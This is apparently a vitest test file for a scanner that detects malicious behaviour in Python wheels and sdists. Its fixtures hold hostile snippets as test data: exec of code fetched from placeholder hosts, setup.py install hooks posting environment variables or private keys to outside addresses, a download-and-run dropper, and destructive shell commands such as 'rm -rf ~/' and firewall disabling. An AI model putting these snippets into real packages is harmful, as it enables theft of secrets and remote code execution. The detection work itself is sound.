import { expect, test } from 'vitest';
import type { Finding } from '../../../src/analysis/report/finding.ts';
import { analysePacked, inspect, python, sdist, wheel } from '../../support/inspect.ts';

function textsOf(finding: Finding | undefined, role: string): readonly string[] {
  return (finding?.chain ?? []).filter((link) => link.role === role).map((link) => link.text);
}

test('a source names the address that was asked, and nothing that the call was not given', async () => {
  const file = wheel({
    'pkg/__init__.py': python('import requests', "exec(requests.get('https://one.code.invalid/x').text)"),
    'pkg/named.py': python('import requests', "exec(requests.get(url='https://two.code.invalid/x').text)"),
  });

  const findings = await inspect('remote-code', file);

  expect(findings.flatMap((f) => textsOf(f, 'source')).toSorted()).toEqual([
    'requests.get(https://one.code.invalid/x)',
    'requests.get(https://two.code.invalid/x)',
  ]);
});

test('no link of a chain is shown twice', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import requests',
      'def connect(private_key):',
      "    requests.post('https://203.0.113.7/k', json={'a': private_key, 'b': private_key})",
    ),
  });

  const { findings } = await analysePacked(file);

  const chains = findings.map((f) => f.chain.map((c) => `${c.role} ${c.path}:${String(c.line)} ${c.text}`));
  expect(chains.length).toBeGreaterThan(0);
  expect(chains.map((links) => links.length)).toEqual(chains.map((links) => new Set(links).size));
});

test('a function that a plug-in hands to its host is not said to run at import', async () => {
  const file = wheel(
    {
      'pkg/__init__.py': '',
      'pkg/plugin.py': python('import requests', 'def report(item):', "    requests.get('https://203.0.113.7/seen')"),
    },
    { entryPoints: '[pytest11]\npkg = pkg.plugin:report\n' },
  );

  const [finding] = await inspect('unasked-network', file);

  expect(finding?.message).toBe('Talks to 203.0.113.7 (raw-address) when its host program calls the plug-in.');
  expect(textsOf(finding, 'context')[0]).toBe('pkg.plugin:report runs when its host program calls the plug-in');
});

test('a program that another tool starts on command is a command', async () => {
  const file = wheel(
    {
      'pkg/__init__.py': '',
      'pkg/cli.py': python('import subprocess', 'def main():', "    subprocess.run(['some-tool', '--now'])"),
    },
    { entryPoints: '[pipx.run]\npkg = pkg.cli:main\n' },
  );

  expect(await inspect('unasked-process', file)).toEqual([]);
});

test.each([
  ['pip install --no-input -i https://pypi.org/simple first>=1.0', 'first>=1.0'],
  ['pip install first && pip install second && echo done', 'first, second'],
  ["python -m pip install --target lib 'first[x]' second", 'first[x], second'],
  ['pip install -r requirements.txt', 'what requirements.txt lists'],
  ['pip install .', 'a project of its own folder'],
])('%s: says what is installed, without the options', async (command, named) => {
  const file = sdist({
    'setup.py': python(
      'import os',
      'from setuptools import setup',
      `os.system(${JSON.stringify(command)})`,
      "setup(name='example')",
    ),
  });

  const findings = await inspect('foreign-install', file);

  expect(findings.map((f) => f.message)).toEqual([`Installs ${named} at install.`]);
});

test.each([
  ['taskkill /f /im chrome.exe', 'Stops other programs.'],
  ['netsh advfirewall set allprofiles state off', 'Reads or weakens network settings.'],
  ['rm -rf ~/', 'Destroys data.'],
  ['xdg-open https://example.invalid/docs', 'Opens a page of example.invalid.'],
  ['curl -O https://example.invalid/tool', 'Starts a download from example.invalid.'],
])('%s: the message says what the command does', async (command, message) => {
  const file = wheel({ 'pkg/__init__.py': python('import os', `os.system(${JSON.stringify(command)})`) });

  const findings = await inspect('shell-payload', file);

  expect(findings.map((f) => f.message)).toEqual([message]);
});

test('a datagram socket that is pointed at an address sends nothing; what it sends afterwards is traffic', async () => {
  const probe = [
    'import socket',
    'def own_address():',
    '    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
    "    s.connect(('203.0.113.7', 9))",
  ];
  const silent = wheel({ 'pkg/__init__.py': python(...probe, '    return s.getsockname()[0]') });
  const beacon = wheel({ 'pkg/__init__.py': python(...probe, "    s.send(b'here')", 'own_address()') });

  expect(await inspect('throwaway-host', silent)).toEqual([]);
  expect(await inspect('unasked-network', beacon)).toMatchObject([{ line: 5, score: 10 }]);
});

test('data that only chose the address is not said to be sent there', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import os',
      'import requests',
      'class Settings:',
      '    def __init__(self):',
      '        self.values = dict(os.environ)',
      'def fetch(settings: Settings, client):',
      '    values = Settings().values',
      '    link = client.look_up(values)',
      '    session = requests.Session()',
      "    session.headers['User-Agent'] = values.get('AGENT')",
      '    return session.get(link.direct_url)',
    ),
  });

  expect(await inspect('exfiltration', file)).toEqual([]);
});

test('a public address that is passed on is called that', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import requests',
      "ip = requests.get('https://api.ipify.org').text",
      "requests.post('https://203.0.113.7/', data=ip)",
    ),
  });

  const findings = await inspect('exfiltration', file);

  expect(findings.map((f) => f.message)).toEqual(['Sends the public address of this machine to 203.0.113.7.']);
});

test('a sentence or a hole that holds the name of a wallet is no wallet file', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import requests',
      'import electrum_keys',
      'def post(name):',
      "    text = open('This works with a keystore, and with {} only.'.format(name)).read()",
      '    key = open(electrum_keys.made()).read()',
      "    requests.post('https://collector.invalid/', json=[text, key])",
    ),
  });

  expect(await inspect('exfiltration', file)).toEqual([]);
});

test('a file beside the module is read from disk, by whatever function may fetch as well', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import os',
      'from urllib.parse import urlparse',
      'from urllib.request import urlopen',
      'def load(path):',
      "    if urlparse(path).scheme in ('http', 'https'):",
      '        return urlopen(path).read()',
      '    return open(path).read()',
      "grammar = load(os.path.join(os.path.dirname(__file__), 'grammar.txt'))",
    ),
    'pkg/grammar.txt': 'x',
  });

  expect(await inspect('unasked-network', file)).toEqual([]);
});

test('a wheel under the name of an sdist says of itself what its own metadata says', async () => {
  const { bytes } = wheel({ 'pkg/__init__.py': 'VALUE = 1\n' });

  expect(await inspect('thin-metadata', { filename: 'pkg-1.0.0-py3-none-any.tar.gz', bytes })).toEqual([]);
});

test('a short summary and a short description are called short, not absent', async () => {
  const file = wheel(
    { 'pkg/__init__.py': 'VALUE = 1\n' },
    { metadata: { Summary: 'Tools', 'Project-URL': null, 'Home-page': null, Classifier: null }, description: 'Held.' },
  );

  const [finding] = await inspect('thin-metadata', file);

  expect(finding?.message).toBe(
    'An archive of little Python, without a project address, classifiers, more than a word of summary or more than a few words of description.',
  );
});

test('an object that stands for a server is made, not talked to', async () => {
  const file = wheel({
    'pkg/__init__.py': python('import xmlrpc.client', "proxy = xmlrpc.client.ServerProxy('https://203.0.113.7/')"),
  });

  expect((await inspect('unasked-network', file)).map((f) => f.message)).toEqual([
    'Makes a client of 203.0.113.7 (raw-address) at import.',
  ]);
});

test('the first step of a function that nobody in the archive calls is its beginning, not a call', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import requests',
      'class Client:',
      '    def __init__(self, private_key):',
      '        send(private_key)',
      'def send(private_key):',
      "    requests.post('https://203.0.113.7/k', json={'k': private_key})",
    ),
  });

  const findings = await inspect('secret-parameter', file);

  const ways = findings.map((f) =>
    f.chain.filter((c) => c.role === 'context').map((c) => `${String(c.line)} ${c.text}`),
  );
  expect(ways).toEqual([['2 Client() runs when somebody calls it', '2 Client() calls __init__', '4 calls send']]);
});

test('the way from a module to what it imports is part of the chain', async () => {
  const file = sdist({
    'setup.py': python('import helper', 'from setuptools import setup', "setup(name='example')"),
    'helper.py': python('import requests', 'def report():', "    requests.get('https://203.0.113.7/seen')", 'report()'),
  });

  const [finding] = await inspect('unasked-network', file);

  expect(finding?.chain.map((c) => `${c.path}:${String(c.line)} ${c.text}`)).toEqual([
    'example-1.0.0/setup.py:1 example-1.0.0/setup.py runs when an installer builds or installs the file',
    'example-1.0.0/helper.py:1 is imported',
    'example-1.0.0/helper.py:4 calls report',
    'example-1.0.0/helper.py:3 requests.get',
  ]);
});

test('a way that is too long to tell is told without its middle, and ends at the function of the sink', async () => {
  const steps = Array.from({ length: 14 }, (_, i) => [`def step${String(i)}():`, `    step${String(i + 1)}()`]).flat();
  const file = wheel({
    'pkg/__init__.py': python(
      'import requests',
      ...steps,
      'def step14():',
      "    requests.get('https://203.0.113.7/seen')",
      'step0()',
    ),
  });

  const [finding] = await inspect('unasked-network', file);

  expect(textsOf(finding, 'context').slice(1)).toEqual([
    'calls step0',
    'calls step1',
    'calls step2',
    'calls step3',
    'calls step4',
    'calls step5, then 5 more on the way',
    'calls step11',
    'calls step12',
    'calls step13',
    'calls step14',
  ]);
});

test('a module that only its own file starts is not said to be a command of the distribution', async () => {
  const file = wheel({
    'pkg/__init__.py': '',
    'pkg/tool.py': python(
      'import requests',
      "if __name__ == '__main__':",
      "    exec(requests.get('https://203.0.113.7/x').text)",
    ),
  });

  const [finding] = await inspect('remote-code', file);

  expect(textsOf(finding, 'context')[0]).toBe('pkg/tool.py runs when it is started as a program');
});

test('what an install runs is not said to wait for a caller as well', async () => {
  const file = sdist({
    'setup.py': python(
      'import os, requests',
      'from setuptools import setup',
      'from setuptools.command.install import install',
      'class Install(install):',
      '    def run(self):',
      "        requests.post('https://x.oastify.com', json=dict(os.environ))",
      "setup(name='example', cmdclass={'install': Install})",
    ),
  });

  expect(await inspect('throwaway-host', file)).toEqual([]);
  expect(await inspect('unasked-network', file)).toMatchObject([{ line: 6, context: 'install' }]);
});

test.each([
  ['poweroff', 'Shuts the machine down or restarts it.', 10],
  ['shutdown /s -f -t 0', 'Shuts the machine down or restarts it.', 10],
])('%s: the message and the points are those of a machine that goes off', async (command, message, score) => {
  const file = sdist({
    'setup.py': python('import os', 'from setuptools import setup', `os.system('${command}')`, "setup(name='example')"),
  });

  expect(await inspect('shell-payload', file)).toMatchObject([{ message, score }]);
  expect(await inspect('unasked-process', file)).toMatchObject([{ score }]);
});

test('what has no name is not named: neither programs nor hosts', async () => {
  const file = sdist({
    'setup.py': python(
      'import subprocess, sys, socket',
      'from setuptools import setup',
      'from somewhere import tool, place',
      'subprocess.run([tool(), "install"])',
      "subprocess.run([sys.executable, '-m', 'somewhere'])",
      's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
      's.sendto(b"here", place())',
      "setup(name='example')",
    ),
  });

  const processes = await inspect('unasked-process', file);
  const traffic = await inspect('unasked-network', file);

  expect(processes.map((f) => f.message).toSorted()).toEqual([
    'Starts Python at install.',
    'Starts a process at install.',
  ]);
  expect(traffic.map((f) => f.message)).toEqual(['Talks to a host (unknown) at install.']);
});

test('an address of a source that was cut short shows that it was', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import requests',
      `exec(requests.get('https://one.code.invalid/${'x'.repeat(100)}').text)`,
    ),
  });

  const [finding] = await inspect('remote-code', file);

  expect(textsOf(finding, 'source')).toEqual([expect.stringMatching(/x…\)$/)]);
});

test('a file of which the network gave the key alone is not said to be downloaded', async () => {
  const lines = (content: string) => [
    'import requests, subprocess',
    'from cryptography.fernet import Fernet',
    "answer = requests.get('https://203.0.113.7/k').content",
    "with open('/tmp/tool.py', 'wb') as f:",
    `    f.write(${content})`,
    "subprocess.call(['python', '/tmp/tool.py'])",
  ];
  const opened = wheel({ 'pkg/__init__.py': python(...lines("Fernet(answer).decrypt(b'gAAAAA')")) });
  const plain = wheel({ 'pkg/__init__.py': python(...lines('answer')) });

  expect(await inspect('dropper', opened)).toMatchObject([
    { line: 6, message: 'Starts a file that it made with what it downloaded before (tool.py).' },
  ]);
  expect(await inspect('dropper', plain)).toMatchObject([
    { line: 6, message: 'Starts a file that it downloaded before (tool.py).' },
  ]);
});

test('a loop that installs is told with all that it installs, up to a number', async () => {
  const installs = (names: readonly string[]) =>
    sdist({
      'setup.py': python(
        'import pip',
        'from setuptools import setup',
        `for name in ${JSON.stringify(names)}:`,
        "    pip.main(['install', name])",
        "setup(name='example')",
      ),
    });

  const few = await inspect('foreign-install', installs(['first', 'second', 'third']));
  const many = await inspect('foreign-install', installs(Array.from({ length: 12 }, (_, i) => `name${String(i)}`)));

  expect([...new Set(few.map((f) => f.message))]).toEqual(['Installs first, second, third at install.']);
  expect([...new Set(many.map((f) => f.message))]).toEqual([
    'Installs name0, name1, name2, name3, name4, name5, name6, name7 and 4 more at install.',
  ]);
});
